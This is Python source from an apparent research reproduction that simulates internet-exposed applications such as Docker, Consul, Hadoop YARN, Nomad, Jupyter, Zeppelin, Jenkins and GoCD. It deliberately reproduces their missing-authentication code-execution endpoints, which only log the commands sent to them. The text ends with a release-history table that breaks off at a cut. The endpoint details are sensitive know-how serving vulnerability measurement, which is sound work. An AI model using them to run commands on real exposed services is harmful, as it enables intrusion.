    @route("POST", "/api/v1/namespaces/default/pods")
    def create_pod(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return self._unauthorized()
        try:
            spec = json.loads(request.body or "{}")
        except json.JSONDecodeError:
            return HttpResponse.json('{"message":"invalid body"}', status=400)
        containers = spec.get("spec", {}).get("containers", [{}])
        command = " ".join(containers[0].get("command", [])) or "<image entrypoint>"
        self.record_execution(command, via=request.path_only, mechanism="pod")
        return HttpResponse.json('{"kind":"Pod","status":{"phase":"Pending"}}', status=201)


class Docker(WebApplication):
    """Docker Engine API.  Exposure without TLS client auth is the MAV."""

    name = "Docker"
    slug = "docker"
    category = AppCategory.CM
    vuln_kind = VulnKind.API
    default_ports = (2375,)
    discloses_version = True  # the /version endpoint

    def validate_config(self) -> None:
        self.config.setdefault("tls_client_auth", False)

    def is_vulnerable(self) -> bool:
        return not self.cfg("tls_client_auth")

    def secure(self) -> None:
        self.config["tls_client_auth"] = True

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.forbidden("client certificate required")
        return HttpResponse.json('{"message":"page not found"}', status=404)

    def default_response(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.forbidden("client certificate required")
        return HttpResponse.json('{"message":"page not found"}', status=404)

    @route("GET", "/version")
    def version_endpoint(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.forbidden("client certificate required")
        return HttpResponse.json(
            json.dumps(
                {
                    "Version": self.version,
                    "ApiVersion": "1.41",
                    "MinAPIVersion": "1.12",
                    "Os": "linux",
                    "KernelVersion": "5.4.0-72-generic",
                }
            )
        )

    @route("POST", "/containers/create")
    def create_container(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.forbidden("client certificate required")
        try:
            spec = json.loads(request.body or "{}")
        except json.JSONDecodeError:
            return HttpResponse.json('{"message":"invalid body"}', status=400)
        command = " ".join(spec.get("Cmd", [])) or "<image entrypoint>"
        self.config["_pending_command"] = command
        return HttpResponse.json('{"Id":"c0ffee","Warnings":[]}', status=201)

    @route("POST", "/containers/c0ffee/start")
    def start_container(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.forbidden("client certificate required")
        command = str(self.config.pop("_pending_command", "<image entrypoint>"))
        self.record_execution(command, via=request.path_only, mechanism="container")
        return HttpResponse(204)


class Consul(WebApplication):
    """Consul agent API.  Code execution only with script checks enabled."""

    name = "Consul"
    slug = "consul"
    category = AppCategory.CM
    vuln_kind = VulnKind.API
    default_ports = (8500,)
    discloses_version = True  # /v1/agent/self discloses the version

    def validate_config(self) -> None:
        self.config.setdefault("enable_script_checks", False)
        self.config.setdefault("enable_remote_script_checks", False)

    def is_vulnerable(self) -> bool:
        return bool(
            self.cfg("enable_script_checks") or self.cfg("enable_remote_script_checks")
        )

    def secure(self) -> None:
        self.config["enable_script_checks"] = False
        self.config["enable_remote_script_checks"] = False

    def landing_page(self) -> str:
        return html_page(
            "Consul by HashiCorp",
            f"<!-- CONSUL_VERSION: {self.version} -->"
            '<div class="consul-ui">Consul</div>',
            assets=["/ui/assets/consul-ui.js"],
        )

    def static_files(self) -> dict[str, str]:
        return {
            "/ui/assets/consul-ui.js": versioned_asset(self.slug, "consul-ui.js", self.version)
        }

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.redirect("/ui/")

    @route("GET", "/ui/")
    def ui(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())

    @route("GET", "/v1/agent/self")
    def agent_self(self, request: HttpRequest) -> HttpResponse:
        # Exposed by default; the MAV verdict hinges on DebugConfig flags.
        return HttpResponse.json(
            json.dumps(
                {
                    "Config": {"Datacenter": "dc1", "NodeName": "agent-1",
                               "Version": self.version},
                    "DebugConfig": {
                        "EnableLocalScriptChecks": bool(self.cfg("enable_script_checks")),
                        "EnableRemoteScriptChecks": bool(
                            self.cfg("enable_remote_script_checks")
                        ),
                    },
                }
            )
        )

    @route("PUT", "/v1/agent/check/register")
    def register_check(self, request: HttpRequest) -> HttpResponse:
        try:
            spec = json.loads(request.body or "{}")
        except json.JSONDecodeError:
            return HttpResponse.json('{"error":"invalid body"}', status=400)
        args = spec.get("Args") or spec.get("Script")
        if args is None:
            return HttpResponse(200, {}, "")
        if not self.is_vulnerable():
            return HttpResponse(
                500, {}, "Scripts are disabled on this agent; to enable, configure "
                "'enable_script_checks' or 'enable_local_script_checks' to true",
            )
        command = " ".join(args) if isinstance(args, list) else str(args)
        self.record_execution(command, via=request.path_only, mechanism="health-check")
        return HttpResponse(200, {}, "")


class Hadoop(WebApplication):
    """Hadoop YARN ResourceManager.  Anonymous job submission by default."""

    name = "Hadoop"
    slug = "hadoop"
    category = AppCategory.CM
    vuln_kind = VulnKind.API
    default_ports = (8088,)
    discloses_version = True  # /ws/v1/cluster/info

    def validate_config(self) -> None:
        self.config.setdefault("kerberos", False)  # insecure by default

    def is_vulnerable(self) -> bool:
        return not self.cfg("kerberos")

    def secure(self) -> None:
        self.config["kerberos"] = True

    def static_files(self) -> dict[str, str]:
        return {
            "/static/yarn.css": versioned_asset(self.slug, "yarn.css", self.version),
            "/static/hadoop-st.png": versioned_asset(self.slug, "hadoop-st.png", self.version),
        }

    def landing_page(self) -> str:
        return html_page(
            "All Applications",
            '<img src="/static/hadoop-st.png" alt="Hadoop">'
            '<div id="apps">Apache Hadoop ResourceManager</div>'
            "<div>Logged in as: dr.who</div>",
            assets=["/static/yarn.css"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.redirect("/cluster")

    @route("GET", "/cluster")
    def cluster(self, request: HttpRequest) -> HttpResponse:
        return self.cluster_about(request)

    @route("GET", "/cluster/cluster")
    def cluster_about(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            # Kerberos-protected UIs still reveal what they are.
            return HttpResponse(
                401,
                {"www-authenticate": "Negotiate", "content-type": "text/html"},
                html_page(
                    "Apache Hadoop",
                    "Authentication required for the ResourceManager web UI",
                    assets=["/static/yarn.css"],
                ),
            )
        body = html_page(
            "About the Cluster",
            '<img src="/static/hadoop-st.png" alt="Hadoop">'
            "<h2>Apache Hadoop</h2><table><tr><td>ResourceManager state</td>"
            f"<td>STARTED</td></tr><tr><td>Hadoop version</td><td>{self.version}"
            "</td></tr></table><div>Logged in as: dr.who</div>",
            assets=["/static/yarn.css"],
        )
        return HttpResponse.html(body)

    @route("GET", "/ws/v1/cluster/info")
    def cluster_info(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Kerberos")
        return HttpResponse.json(
            json.dumps(
                {"clusterInfo": {"state": "STARTED", "hadoopVersion": self.version}}
            )
        )

    @route("GET", "/ws/v1/cluster/apps/new-application")
    def new_application(self, request: HttpRequest) -> HttpResponse:
        # Real YARN expects POST; it answers GET with the same JSON shape,
        # which is what makes the paper's non-invasive probe possible.
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Kerberos")
        return HttpResponse.json(
            json.dumps(
                {
                    "application-id": "application_1623683200000_0001",
                    "maximum-resource-capability": {"memory": 8192, "vCores": 4},
                }
            )
        )

    @route("POST", "/ws/v1/cluster/apps")
    def submit_application(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Kerberos")
        try:
            spec = json.loads(request.body or "{}")
        except json.JSONDecodeError:
            return HttpResponse.json('{"error":"invalid body"}', status=400)
        command = (
            spec.get("am-container-spec", {}).get("commands", {}).get("command", "")
            or "<empty command>"
        )
        self.record_execution(command, via=request.path_only, mechanism="yarn-app")
        return HttpResponse.json("{}", status=202)


class Nomad(WebApplication):
    """HashiCorp Nomad.  ACLs off by default; raw_exec runs commands."""

    name = "Nomad"
    slug = "nomad"
    category = AppCategory.CM
    vuln_kind = VulnKind.API
    default_ports = (4646,)
    discloses_version = True  # /v1/agent/self

    def validate_config(self) -> None:
        self.config.setdefault("acl_enabled", False)  # insecure by default

    def is_vulnerable(self) -> bool:
        return not self.cfg("acl_enabled")

    def secure(self) -> None:
        self.config["acl_enabled"] = True

    def landing_page(self) -> str:
        return html_page(
            "Nomad",
            '<div id="nomad-ui">Nomad by HashiCorp</div>',
            assets=["/ui/assets/nomad-ui.js"],
        )

    def static_files(self) -> dict[str, str]:
        return {
            "/ui/assets/nomad-ui.js": versioned_asset(self.slug, "nomad-ui.js", self.version)
        }

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.redirect("/ui/")

    @route("GET", "/ui/")
    def ui(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())

    @route("GET", "/v1/jobs")
    def list_jobs(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.json('{"error":"Permission denied"}', status=403)
        return HttpResponse.json(
            json.dumps(
                [
                    {
                        "ID": "example",
                        "Status": "running",
                        "Type": "service",
                        "JobSummary": {"JobID": "example", "Summary": {}},
                    }
                ]
            )
        )

    @route("GET", "/v1/agent/self")
    def agent_self(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.json('{"error":"Permission denied"}', status=403)
        return HttpResponse.json(
            json.dumps({"config": {"Version": {"Version": self.version}}})
        )

    @route("PUT", "/v1/jobs")
    def submit_job(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.json('{"error":"Permission denied"}', status=403)
        try:
            spec = json.loads(request.body or "{}")
        except json.JSONDecodeError:
            return HttpResponse.json('{"error":"invalid body"}', status=400)
        command = "<no command>"
        for group in spec.get("Job", {}).get("TaskGroups", []):
            for task in group.get("Tasks", []):
                if task.get("Driver") == "raw_exec":
                    cfg = task.get("Config", {})
                    command = " ".join([cfg.get("command", "")] + cfg.get("args", []))
        self.record_execution(command, via=request.path_only, mechanism="nomad-job")
        return HttpResponse.json('{"EvalID":"deadbeef"}')
