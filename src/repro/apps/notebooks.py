"""Notebook emulators: Jupyter Lab, Jupyter Notebook, Zeppelin, Polynote,
Spark Notebook.

Notebooks ship a web terminal or ``%sh``-style cells, i.e. direct system
command execution.  Security posture:

* **Jupyter Notebook** — token auth on by default since 4.3 (Dec 2016);
  older versions listened without authentication, and any version can be
  misconfigured with ``--NotebookApp.password=''``.
* **Jupyter Lab** — always shipped with token auth (secure by default),
  same misconfiguration knob.
* **Zeppelin** — anonymous access by default.
* **Polynote** — no authentication support at all; exposure = MAV.
* **Spark Notebook** — discontinued, excluded from the study.
"""

from __future__ import annotations

import json

from repro.apps.base import (
    AppCategory,
    VulnKind,
    WebApplication,
    html_page,
    route,
    versioned_asset,
)
from repro.net.http import HttpRequest, HttpResponse


class _Jupyter(WebApplication):
    """Shared behaviour of the two Jupyter products."""

    category = AppCategory.NB
    vuln_kind = VulnKind.SYSCMD
    default_ports = (8888,)
    discloses_version = True  # the /api endpoint returns {"version": ...}

    #: product name surfaced in page titles and API bodies
    product_title = "Jupyter"

    def validate_config(self) -> None:
        self.config.setdefault("auth_enabled", self._default_auth())

    def _default_auth(self) -> bool:
        raise NotImplementedError

    def is_vulnerable(self) -> bool:
        return not self.cfg("auth_enabled")

    def secure(self) -> None:
        self.config["auth_enabled"] = True

    def _forbidden(self) -> HttpResponse:
        return HttpResponse.json('{"message": "Forbidden"}', status=403)

    def landing_page(self) -> str:
        return html_page(
            self.product_title,
            f'<div id="jupyter-main-app" data-product="{self.product_title}">'
            f"{self.product_title}</div>",
            assets=["/static/base/js/main.min.js"],
        )

    def static_files(self) -> dict[str, str]:
        return {
            "/static/base/js/main.min.js": versioned_asset(self.slug, "main.min.js", self.version),
            "/static/style/style.min.css": versioned_asset(self.slug, "style.min.css", self.version),
        }

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if self.is_vulnerable():
            return HttpResponse.html(self.landing_page())
        return HttpResponse.redirect("/login")

    @route("GET", "/login")
    def login(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(
            html_page(
                f"{self.product_title} Login",
                '<form action="/login" method="post">'
                "Password or token: <input name=password></form>",
            )
        )

    @route("GET", "/api")
    def api_root(self, request: HttpRequest) -> HttpResponse:
        # Jupyter discloses its version here even when auth is enabled.
        return HttpResponse.json(json.dumps({"version": self.version}))

    @route("GET", "/api/terminals")
    def list_terminals(self, request: HttpRequest) -> HttpResponse:
        # Table 10's probe.  The body names the product so the plugin can
        # distinguish Lab from Notebook.
        if not self.is_vulnerable():
            return self._forbidden()
        return HttpResponse.json(
            json.dumps({"product": self.product_title, "terminals": []})
        )

    @route("POST", "/api/terminals")
    def create_terminal(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return self._forbidden()
        return HttpResponse.json('{"name": "1"}', status=201)

    @route("POST", "/terminals/websocket/1")
    def terminal_input(self, request: HttpRequest) -> HttpResponse:
        """Stands in for the WebSocket a real terminal uses."""
        if not self.is_vulnerable():
            return self._forbidden()
        command = request.form.get("stdin", request.body)
        self.record_execution(command, via=request.path_only, mechanism="terminal")
        return HttpResponse.json('["stdout", ""]')


class JupyterLab(_Jupyter):
    name = "Jupyter Lab"
    slug = "jupyterlab"
    product_title = "JupyterLab"

    def _default_auth(self) -> bool:
        return True  # token auth from the first release


class JupyterNotebook(_Jupyter):
    name = "Jupyter Notebook"
    slug = "jupyter-notebook"
    product_title = "Jupyter Notebook"

    def _default_auth(self) -> bool:
        # Random token generation introduced in the 4.3 security release.
        return not self.version_before("4.3")


class Zeppelin(WebApplication):
    """Apache Zeppelin.  Anonymous access (and %sh cells) by default."""

    name = "Zeppelin"
    slug = "zeppelin"
    category = AppCategory.NB
    vuln_kind = VulnKind.SYSCMD
    default_ports = (8080,)
    discloses_version = True  # /api/version

    def validate_config(self) -> None:
        self.config.setdefault("shiro_auth", False)  # insecure by default

    def is_vulnerable(self) -> bool:
        return not self.cfg("shiro_auth")

    def secure(self) -> None:
        self.config["shiro_auth"] = True

    def landing_page(self) -> str:
        return html_page(
            "Zeppelin",
            '<div id="zeppelin-home" ng-app="zeppelinWebApp">Welcome to Zeppelin!</div>',
            assets=["/scripts/vendor.js"],
        )

    def static_files(self) -> dict[str, str]:
        return {
            "/scripts/vendor.js": versioned_asset(self.slug, "vendor.js", self.version)
        }

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())

    @route("GET", "/api/version")
    def api_version(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.json(
            json.dumps({"status": "OK", "message": "", "body": {"version": self.version}})
        )

    @route("GET", "/api/notebook")
    def list_notebooks(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.json(
                '{"status":"FORBIDDEN","message":"Authentication required"}', status=403
            )
        return HttpResponse.json(
            '{"status":"OK","message":"","body":[{"id":"2A94M5J1Z","name":"tutorial"}]}'
        )

    @route("POST", "/api/notebook")
    def create_notebook(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.json('{"status":"FORBIDDEN"}', status=403)
        return HttpResponse.json('{"status":"OK","body":"2A94M5J1Z"}', status=201)

    @route("POST", "/api/notebook/job/2A94M5J1Z")
    def run_paragraph(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.json('{"status":"FORBIDDEN"}', status=403)
        command = request.form.get("paragraph", request.body)
        if command.startswith("%sh"):
            command = command[len("%sh"):].strip()
        self.record_execution(command, via=request.path_only, mechanism="paragraph")
        return HttpResponse.json('{"status":"OK"}')


class Polynote(WebApplication):
    """Polynote.  No authentication support: reachable means vulnerable."""

    name = "Polynote"
    slug = "polynote"
    category = AppCategory.NB
    vuln_kind = VulnKind.SYSCMD
    default_ports = (8192,)
    discloses_version = False  # fingerprinted via static files

    def is_vulnerable(self) -> bool:
        return True

    def secure(self) -> None:
        # Polynote cannot be secured in-app; owners firewall it instead.
        # The lifecycle model therefore only ever takes these offline.
        raise NotImplementedError("Polynote has no authentication to enable")

    def landing_page(self) -> str:
        return html_page(
            "Polynote",
            '<div id="Main" class="polynote">Polynote</div>',
            assets=["/static/dist/main.js", "/static/style/polynote.css"],
        )

    def static_files(self) -> dict[str, str]:
        return {
            "/static/dist/main.js": versioned_asset(self.slug, "main.js", self.version),
            "/static/style/polynote.css": versioned_asset(self.slug, "polynote.css", self.version),
        }

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())

    @route("POST", "/ws")
    def websocket(self, request: HttpRequest) -> HttpResponse:
        """Stands in for Polynote's kernel WebSocket."""
        command = request.form.get("cell", request.body)
        self.record_execution(command, via=request.path_only, mechanism="cell")
        return HttpResponse.json('{"status":"complete"}')


class SparkNotebook(WebApplication):
    """Spark Notebook.  Discontinued (no updates since Feb 2019); the paper
    excluded it, so it only appears as background population."""

    name = "Spark NB"
    slug = "spark-notebook"
    category = AppCategory.NB
    vuln_kind = VulnKind.NONE
    default_ports = (9001,)
    discloses_version = False

    def is_vulnerable(self) -> bool:
        return False

    def secure(self) -> None:
        pass

    def landing_page(self) -> str:
        return html_page("Spark Notebook", '<div class="spark-notebook">Notebooks</div>')

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())
