"""Continuous-integration application emulators: Gitlab, Drone, Jenkins,
Travis, GoCD.

Security model per the paper's Table 1:

* **Jenkins** — before 2.0 (April 2016) anyone could create jobs; from 2.0
  the setup wizard creates an admin account with a random password, but
  operators can still disable security (``auth_enabled=False``).
* **GoCD** — "A newly installed GoCD server does not require users to
  authenticate"; insecure by default, documented warning.
* Gitlab, Drone, Travis — out of scope (secure by default, no easy
  misconfiguration).
"""

from __future__ import annotations

from repro.apps.base import (
    AppCategory,
    VulnKind,
    WebApplication,
    html_page,
    route,
    versioned_asset,
)
from repro.net.http import HttpRequest, HttpResponse


class Jenkins(WebApplication):
    """Jenkins CI.  Vulnerable when security is disabled (default < 2.0)."""

    name = "Jenkins"
    slug = "jenkins"
    category = AppCategory.CI
    vuln_kind = VulnKind.SYSCMD
    default_ports = (8080,)
    discloses_version = True

    def validate_config(self) -> None:
        self.config.setdefault("auth_enabled", not self.version_before("2.0"))

    def is_vulnerable(self) -> bool:
        return not self.cfg("auth_enabled")

    def secure(self) -> None:
        self.config["auth_enabled"] = True

    def static_files(self) -> dict[str, str]:
        return {
            "/static/css/style.css": versioned_asset(self.slug, "style.css", self.version),
            "/static/scripts/hudson-behavior.js": versioned_asset(
                self.slug, "hudson-behavior.js", self.version
            ),
        }

    def landing_page(self) -> str:
        return html_page(
            "Dashboard [Jenkins]",
            '<div id="jenkins">Welcome to Jenkins!</div>'
            '<a href="/view/all/newJob">New Item</a>',
            assets=["/static/scripts/hudson-behavior.js"],
        )

    def _headers(self) -> dict[str, str]:
        return {"x-jenkins": self.version, "content-type": "text/html"}

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            # Real Jenkins bounces anonymous visitors to the login form.
            response = HttpResponse.redirect("/login")
            return HttpResponse(
                response.status, {**response.headers, **self._headers()}, ""
            )
        return HttpResponse(200, self._headers(), self.landing_page())

    @route("GET", "/login")
    def login(self, request: HttpRequest) -> HttpResponse:
        # Like the real product, the X-Jenkins version header is present
        # even on the login form.
        return HttpResponse(
            200,
            self._headers(),
            html_page("Sign in [Jenkins]", '<form action="/j_spring_security_check"></form>'),
        )

    @route("GET", "/view/all/newJob")
    def new_job(self, request: HttpRequest) -> HttpResponse:
        # Table 10: the MAV check looks for a reachable `form#createItem`.
        if not self.is_vulnerable():
            return HttpResponse.redirect("/login")
        body = html_page(
            "New Item [Jenkins]",
            '<form id="createItem" action="/createItem" method="post">'
            '<input name="name"></form>',
        )
        return HttpResponse(200, self._headers(), body)

    @route("POST", "/createItem")
    def create_item(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Jenkins")
        return HttpResponse(200, self._headers(), "created")

    @route("POST", "/job/*")
    def build_job(self, request: HttpRequest) -> HttpResponse:
        """Triggering a build runs the attacker-controlled build step."""
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("Jenkins")
        command = request.form.get("command", request.body)
        self.record_execution(command, via=request.path_only, mechanism="build-step")
        return HttpResponse(201, self._headers(), "build scheduled")


class GoCD(WebApplication):
    """GoCD.  Insecure by default: pipelines (and thus commands) for all."""

    name = "GoCD"
    slug = "gocd"
    category = AppCategory.CI
    vuln_kind = VulnKind.SYSCMD
    default_ports = (8153,)
    discloses_version = True

    def validate_config(self) -> None:
        self.config.setdefault("auth_enabled", False)  # insecure by default

    def is_vulnerable(self) -> bool:
        return not self.cfg("auth_enabled")

    def secure(self) -> None:
        self.config["auth_enabled"] = True

    def static_files(self) -> dict[str, str]:
        return {
            "/go/assets/application.css": versioned_asset(self.slug, "application.css", self.version),
            "/go/assets/single_page_apps/pipelines.js": versioned_asset(
                self.slug, "pipelines.js", self.version
            ),
        }

    def landing_page(self) -> str:
        """The dashboard markup changed repeatedly across GoCD's life —
        Table 10's detection accepts four marker pairs for that reason.
        We serve a different era's markup per major version."""
        if self.version_before("17.0"):
            return html_page(
                "Pipelines - Go",
                f'<div data-version="{self.version}">'
                '<a href="/go/admin/pipelines">Add Pipeline</a>'
                '<div id="admin_pipelines"></div></div>',
                assets=["/go/assets/application.css"],
            )
        if self.version_before("20.0"):
            return html_page(
                "Dashboard - Go",
                f'<div class="dashboard" data-version="{self.version}">'
                '<a href="/go/admin/pipelines/">pipelines</a></div>',
                assets=["/go/assets/application.css"],
            )
        return html_page(
            "Create a pipeline - Go",
            f'<div class="pipelines-page" data-version="{self.version}">'
            '<a href="/go/admin/pipelines">Add Pipeline</a></div>',
            assets=["/go/assets/application.css"],
        )

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.redirect("/go/home")

    @route("GET", "/go/home")
    def home(self, request: HttpRequest) -> HttpResponse:
        # Table 10 accepts several body-marker pairs across GoCD versions;
        # we serve the first ('Create a pipeline - Go' + 'pipelines-page').
        if not self.is_vulnerable():
            return HttpResponse.redirect("/go/auth/login")
        return HttpResponse.html(self.landing_page())

    @route("GET", "/go/auth/login")
    def login(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(
            html_page("Login - Go", f'<form id="login">GoCD {self.version}</form>')
        )

    @route("POST", "/go/api/admin/pipelines")
    def create_pipeline(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return HttpResponse.unauthorized("GoCD")
        command = request.form.get("command", request.body)
        self.record_execution(command, via=request.path_only, mechanism="pipeline-task")
        return HttpResponse(200, {}, "pipeline created")


class _OutOfScopeCi(WebApplication):
    """Shared behaviour for the CI products with no MAV."""

    vuln_kind = VulnKind.NONE

    def is_vulnerable(self) -> bool:
        return False

    def secure(self) -> None:  # already secure
        pass

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        return HttpResponse.html(self.landing_page())


class Gitlab(_OutOfScopeCi):
    name = "Gitlab"
    slug = "gitlab"
    category = AppCategory.CI
    default_ports = (80, 443)
    discloses_version = False

    def landing_page(self) -> str:
        return html_page(
            "Sign in - GitLab",
            '<div class="login-page gl-h-full">GitLab Community Edition</div>',
            assets=["/assets/webpack/main.chunk.js"],
        )

    def static_files(self) -> dict[str, str]:
        return {
            "/assets/webpack/main.chunk.js": versioned_asset(self.slug, "main.chunk.js", self.version)
        }


class Drone(_OutOfScopeCi):
    name = "Drone"
    slug = "drone"
    category = AppCategory.CI
    default_ports = (80,)
    discloses_version = False

    def landing_page(self) -> str:
        return html_page("drone", '<div id="root" data-app="drone-ci"></div>')


class Travis(_OutOfScopeCi):
    name = "Travis"
    slug = "travis"
    category = AppCategory.CI
    default_ports = (80, 443)
    discloses_version = False

    def landing_page(self) -> str:
        return html_page("Travis CI", '<div class="travis-ci">Sign in with GitHub</div>')
