"""Release history database for the 25 investigated applications.

The paper's RQ2 and Figure 1 reason about software age via *release dates*
rather than version numbers ("to make the versions of all the different
software comparable").  This module records, per application, a curated
release history spanning 2014-2021 with the security-relevant thresholds:

* Jenkins < 2.0 (April 2016): no authentication by default
* Jupyter Notebook < 4.3 (December 2016): no token/password by default
* Joomla < 3.7.4 (July 2017): installation hijackable with remote DB
* Adminer < 4.6.3 (June 2018): empty SQL password accepted

Dates are stored as fractional years (2016.95 ~ December 2016), which is
all the precision the paper's 7-bin histogram needs and keeps arithmetic
trivial.
"""

from __future__ import annotations

import bisect
import random
from dataclasses import dataclass

from repro.util.errors import ConfigError

#: Date of the paper's Internet-wide scan (June 03, 2021).
SCAN_DATE = 2021.42


@dataclass(frozen=True, order=True)
class Release:
    """One published release of an application."""

    date: float       # fractional year, e.g. 2016.95
    version: str

    @property
    def year(self) -> int:
        return int(self.date)


def _spread(series: str, start: float, end: float, count: int) -> list[Release]:
    """Evenly spread ``count`` patch releases of ``series`` over a window.

    ``series`` is a format string with one ``{i}`` placeholder, e.g.
    ``"2.{i}"``; ``i`` counts from 0.
    """
    if count == 1:
        return [Release(start, series.format(i=0))]
    step = (end - start) / (count - 1)
    return [Release(start + i * step, series.format(i=i)) for i in range(count)]


def _r(date: float, version: str) -> Release:
    return Release(date, version)


# Curated release histories.  Versions are modelled on the real projects'
# numbering; dates are approximate but order- and threshold-accurate.
_HISTORIES: dict[str, list[Release]] = {
    # ----- Continuous Integration -------------------------------------------
    "gitlab": _spread("{i}.0", 2014.2, 2021.35, 10),
    "drone": [_r(2015.3, "0.4"), _r(2017.2, "0.7"), _r(2019.1, "1.0"),
              _r(2020.3, "1.9"), _r(2021.2, "2.0")],
    "jenkins": (
        _spread("1.{i}", 2014.1, 2016.25, 12)[:-1]  # 1.x era, insecure default
        + [_r(2016.3, "2.0")]                        # setup wizard introduced
        + _spread("2.{i}", 2016.5, 2021.35, 14)[1:]
    ),
    "travis": [_r(2015.0, "2.0"), _r(2018.0, "3.0"), _r(2020.8, "3.2")],
    "gocd": [_r(2014.5, "14.2"), _r(2016.2, "16.1"), _r(2017.6, "17.8"),
             _r(2018.9, "18.10"), _r(2019.8, "19.9"), _r(2020.6, "20.5"),
             _r(2021.1, "21.1"), _r(2021.35, "21.2")],
    # ----- Content Management Systems -----------------------------------------
    "ghost": _spread("{i}.0", 2014.0, 2021.3, 8),
    "wordpress": (
        [_r(2014.3, "3.9"), _r(2014.9, "4.0"), _r(2015.3, "4.2"),
         _r(2015.9, "4.4"), _r(2016.3, "4.5"), _r(2016.9, "4.7"),
         _r(2017.4, "4.8"), _r(2017.9, "4.9"), _r(2018.9, "5.0"),
         _r(2019.2, "5.1"), _r(2019.4, "5.2"), _r(2019.9, "5.3"),
         _r(2020.2, "5.4"), _r(2020.6, "5.5"), _r(2020.9, "5.6"),
         _r(2021.2, "5.7"), _r(2021.4, "5.7.2")]
    ),
    "grav": [_r(2015.6, "1.0"), _r(2016.5, "1.1"), _r(2017.2, "1.2"),
             _r(2018.1, "1.4"), _r(2019.3, "1.6"), _r(2020.9, "1.7"),
             _r(2021.3, "1.7.14")],
    "joomla": [_r(2014.2, "3.2"), _r(2015.2, "3.4"), _r(2016.2, "3.5"),
               _r(2016.9, "3.6"), _r(2017.3, "3.7.0"), _r(2017.55, "3.7.4"),
               _r(2017.9, "3.8"), _r(2018.8, "3.9"), _r(2021.1, "3.9.24"),
               _r(2021.35, "3.9.27")],
    "drupal": [_r(2014.1, "7.26"), _r(2015.9, "8.0"), _r(2017.3, "8.3"),
               _r(2018.7, "8.6"), _r(2019.9, "8.8"), _r(2020.4, "9.0"),
               _r(2020.9, "9.1"), _r(2021.3, "9.1.7")],
    # ----- Cluster Management -----------------------------------------------
    "kubernetes": (
        [_r(2015.5, "1.0"), _r(2016.2, "1.2"), _r(2016.7, "1.4"),
         _r(2017.2, "1.6"), _r(2017.7, "1.8"), _r(2018.2, "1.10"),
         _r(2018.7, "1.12"), _r(2019.2, "1.14"), _r(2019.7, "1.16"),
         _r(2020.2, "1.18"), _r(2020.7, "1.19"), _r(2020.95, "1.20"),
         _r(2021.28, "1.21")]
    ),
    "docker": [_r(2014.4, "1.0"), _r(2015.8, "1.9"), _r(2016.5, "1.12"),
               _r(2017.2, "17.03"), _r(2017.7, "17.09"), _r(2018.2, "18.03"),
               _r(2018.8, "18.09"), _r(2019.5, "19.03"), _r(2020.95, "20.10"),
               _r(2021.3, "20.10.6")],
    "consul": [_r(2014.3, "0.3"), _r(2015.8, "0.6"), _r(2017.3, "0.8"),
               _r(2017.8, "1.0"), _r(2018.9, "1.4"), _r(2019.6, "1.6"),
               _r(2020.4, "1.8"), _r(2020.9, "1.9"), _r(2021.3, "1.9.5")],
    "hadoop": [_r(2014.6, "2.5"), _r(2015.4, "2.7"), _r(2016.0, "2.7.2"),
               _r(2017.0, "2.8"), _r(2017.9, "3.0"), _r(2018.4, "3.1"),
               _r(2019.0, "3.1.2"), _r(2019.7, "3.2.1"), _r(2020.5, "3.3"),
               _r(2021.0, "3.2.2"), _r(2021.35, "3.3.1")],
    "nomad": [_r(2015.7, "0.1"), _r(2016.5, "0.4"), _r(2017.5, "0.6"),
              _r(2018.5, "0.8"), _r(2019.7, "0.10"), _r(2020.4, "0.11"),
              _r(2020.8, "0.12"), _r(2021.0, "1.0"), _r(2021.3, "1.1")],
    # ----- Notebooks ---------------------------------------------------------
    "jupyterlab": [_r(2018.1, "0.31"), _r(2018.6, "0.33"), _r(2019.1, "0.35"),
                   _r(2019.5, "1.0"), _r(2020.2, "2.0"), _r(2020.6, "2.2"),
